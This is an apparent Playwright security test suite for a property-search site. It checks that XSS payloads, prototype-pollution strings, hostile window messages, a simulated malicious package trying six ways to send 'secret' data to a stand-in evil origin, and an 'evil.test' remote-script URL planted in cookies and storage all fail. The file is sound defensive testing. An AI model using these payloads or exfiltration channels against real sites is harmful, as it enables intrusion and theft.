import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PAYLOADS, watchForHarm } from '../harness/attacks/attacks';
import { followLink, heading } from '../harness/pages/search-page';
import { sendRaw } from '../harness/raw-request';
import { expect, hydrated, open, test as base } from '../harness/test';
import { seen } from './support/seen';

interface EvilSite {
  origin: string;
  /** Body of every answer. */
  answer: string;
  /** Paths that were requested. */
  requested: string[];
}

/** Another origin, which allows cross-origin requests. */
const test = base.extend<{ evil: EvilSite }>({
  evil: async ({}, provide) => {
    const site: EvilSite = { origin: '', answer: 'thank you', requested: [] };
    const server = createServer((request, response) => {
      site.requested.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('cross-origin-resource-policy', 'cross-origin');
      response.end(site.answer);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    site.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    await provide(site);
    server.closeAllConnections();
    server.close();
  },
});

const POLLUTIONS = [
  '__proto__[x]=1',
  '__proto__.x=1',
  'constructor.prototype.x=1',
  'constructor[prototype][x]=1',
  'type=__proto__&city=__proto__&sort=__proto__',
  encodeURIComponent('__proto__[x]=1'),
];

test('W01 XSS payloads in three parameters do nothing as served, hydrated or after another search', async ({
  page,
}) => {
  test.setTimeout(PAYLOADS.length * 30_000);
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60);
  const expectNoHarm = watchForHarm(page);
  for (const payload of PAYLOADS) {
    const text = encodeURIComponent(payload);
    const query = ['location', 'city', 'type'].map((name) => `${name}=${text}`).join('&');
    const { status, body } = await sendRaw(`/search?${query}`);
    expect(status, payload).toBe(200);
    // Payloads without a tag may be in the page's JSON as they are.
    expect(payload.includes('<') && body.includes(payload), payload).toBe(false);
    await open(page, `/search?${query}`);
    await expectNoHarm();
    // Again by a client navigation, without the server.
    await followLink(page, `/search?type=rent&city=${text}&location=${text}`);
    await expect(heading(page)).toContainText('Rental Properties in ');
    await expectNoHarm();
  }
  seen(`${PAYLOADS.length} texts, 0 ran`);
});

test.describe('hostile addresses and windows', () => {
  test('W12 no address, stored text or body pollutes Object.prototype', async ({ page }) => {
    const isClean = () => page.evaluate(() => Reflect.get({}, 'x') === undefined);
    for (const query of POLLUTIONS) {
      await open(page, `/search?${query}#${query}`);
      expect(await isClean(), query).toBe(true);
    }
    await page.evaluate(() => {
      for (const key of ['user', 'nivaas:sell-draft', 'nivaas:shortlist'])
        localStorage.setItem(key, '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},"name":"Asha"}');
    });
    for (const url of ['/', '/sell/property', '/saved']) {
      await open(page, url);
      expect(await isClean(), url).toBe(true);
    }
    for (const body of ['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}']) {
      for (const target of ['/auth/login', '/auth/register']) {
        const headers = { 'content-type': 'application/json' };
        expect((await sendRaw(target, { method: 'POST', body, headers })).status).toBe(400);
      }
    }
    // A polluted prototype in the edge would show up as a header.
    const release = await sendRaw('/_release');
    expect([release.status, release.headers['x']]).toEqual([200, undefined]);
    seen('objects as before; bodies answered 400');
  });

  test(
    'W13 the first of repeated parameters counts, and brackets mean nothing',
    { tag: '@core' },
    async () => {
      const heading = async (query: string) => {
        const asked = await sendRaw(`/search?${query}`);
        // Repeated and empty parameters are redirected to their canonical URL.
        const { status, body } =
          asked.status === 302 ? await sendRaw(String(asked.headers['location'])) : asked;
        expect(status, query).toBe(200);
        return /<h1[^>]*>(.*?)<\/h1>/s.exec(body)?.[1]?.replace(/<[^>]*>/g, '');
      };
      expect(await heading('city=Pune&city=Delhi')).toBe('Properties for Sale in Pune');
      expect(await heading('type=rent&type=buy&location=Pune&location=')).toBe('Rental Properties in Pune');
      for (const query of ['city[]=Pune', 'city[a]=Pune', 'city%5B%5D=Pune', 'city.a=Pune', 'city;=Pune'])
        expect(await heading(query), query).toBe('Properties for Sale');
      expect(await heading(Array.from({ length: 200 }, (_, index) => `city=${index}`).join('&'))).toBe(
        'Properties for Sale in 0',
      );
    },
  );

  test(
    'W15 W16 messages from other windows change nothing, and an opener cannot reach the page',
    { tag: '@core' },
    async ({ page, context, baseURL, evil }) => {
      const junk = [
        null,
        7,
        '{"type":"navigate","to":"//evil.example"}',
        { type: 'account:signed-in', name: 'x' },
      ];
      evil.answer = `<title>evil</title><button onclick="opened=window.open('${baseURL}/about')">Open</button>`;
      await page.goto(evil.origin);
      const opening = context.waitForEvent('page');
      await page.getByRole('button').click();
      const site = await opening;
      await hydrated(site);
      const state = () =>
        site.evaluate(() => [opener, document.title, location.href, localStorage.length, name] as const);
      const before = await state();
      expect(before[0]).toBeNull();
      // The opener's reference is cut, so the page also sends the messages to itself.
      expect(await page.evaluate('opened.closed')).toBe(true);
      await page.evaluate((messages) => {
        for (const one of messages) (Reflect.get(globalThis, 'opened') as Window).postMessage(one, '*');
      }, junk);
      await site.evaluate(async (messages) => {
        for (const one of messages) window.postMessage(one, '*');
        await new Promise((resolve) => setTimeout(resolve));
      }, junk);
      expect(await state()).toEqual(before);
      await expect(site.getByRole('heading', { level: 1 })).toBeVisible();
      seen('the opener has lost the window; nothing listens to messages');
    },
  );

  test(
    'O13 a malicious package cannot send data to another site',
    { tag: '@core' },
    async ({ page, noise, evil }) => {
      noise.allowed.push(
        /Content Security Policy|violates|csp$|ERR_BLOCKED_BY_CSP|Failed to fetch|WebSocket/i,
      );
      await open(page, '/');
      const stopped = await page.evaluate(async (to) => {
        const directives = new Set<string>();
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
          directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`),
        );
        const ways: Record<string, () => unknown> = {
          fetch: () => fetch(`${to}/fetch`),
          request: () => {
            const request = new XMLHttpRequest();
            request.open('POST', `${to}/request`);
            request.send('secret');
          },
          beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
          events: () => new EventSource(`${to}/events`),
          socket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
          picture: () => (new Image().src = `${to}/picture`),
        };
        for (const way of Object.values(ways))
          await Promise.resolve()
            .then(way)
            .catch(() => undefined);
        await new Promise<void>((resolve) => {
          const look = () => (directives.size >= 6 ? resolve() : void setTimeout(look, 20));
          look();
        });
        return [...directives].sort();
      }, evil.origin);
      expect(stopped).toEqual([
        ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
        'img-src picture',
      ]);
      expect(evil.requested).toEqual([]);
      // The other site is up: a request from outside the page reaches it.
      expect(await (await page.request.get(`${evil.origin}/control`)).text()).toBe(evil.answer);
      expect(evil.requested).toEqual(['/control']);
      seen('six of six ways stopped by the policy; nothing arrived');
    },
  );
});

test.describe('service workers', { tag: '@core' }, () => {
  test.use({ serviceWorkers: 'allow' });

  test('W20 no file of the site becomes a service worker, but the site’s own', async ({ page, noise }) => {
    noise.allowed.push(/service worker|Content Security Policy|csp$/i);
    await open(page, '/');
    const script = await page
      .locator('link[rel=preload][as=script]')
      .first()
      .evaluate((link: HTMLLinkElement) => link.href);
    expect((await page.request.get(script)).headers()['service-worker-allowed']).toBeUndefined();
    for (const scope of ['/', new URL('.', script).pathname]) {
      const outcome = await page.evaluate(
        ([url, where]) =>
          navigator.serviceWorker.register(url ?? '', { scope: where ?? '' }).then(
            () => 'registered',
            (error: Error) => error.name,
          ),
        [script, scope],
      );
      expect(outcome, scope).toMatch(/^(SecurityError|TypeError)$/);
    }
    const workers = await page.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map(({ active }) => active?.scriptURL),
    );
    expect(workers.filter((url) => !url?.endsWith('/service-worker.js'))).toEqual([]);
    seen('registration refused in every folder');
  });
});

const EVIL = 'https://evil.test/remote-entry.js';
const NAMES = ['mf', 'remotes', 'overrides', 'mf-overrides', 'import-map-override:mfe-search', 'mfe-search'];

test('O06 no address, cookie or storage makes a remote load from another origin', async ({
  page,
  baseURL,
}) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== baseURL) foreign.push(request.url());
  });
  await page
    .context()
    .addCookies(NAMES.map((name) => ({ name: name.replace(':', '_'), value: EVIL, url: baseURL })));
  await page.addInitScript(
    ([names, evil]) => {
      for (const name of names) localStorage.setItem(name, evil);
      for (const name of names) sessionStorage.setItem(name, evil);
    },
    [NAMES, EVIL] as const,
  );
  const query = new URLSearchParams(NAMES.map((name) => [name, EVIL]));
  await page.goto(`/search?${query.toString()}`);
  await hydrated(page);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Careers' }).first().click();
  await expect(page).toHaveURL(/careers$/);
  expect(foreign).toEqual([]);
  const sources = await page
    .locator('script[src]')
    .evaluateAll((all) => all.map((one) => (one as HTMLScriptElement).src));
  expect(sources.filter((source) => !source.startsWith(`${baseURL}/_assets/`))).toEqual([]);
  seen(`${sources.length} scripts, all of the release; no request to another origin`);
});
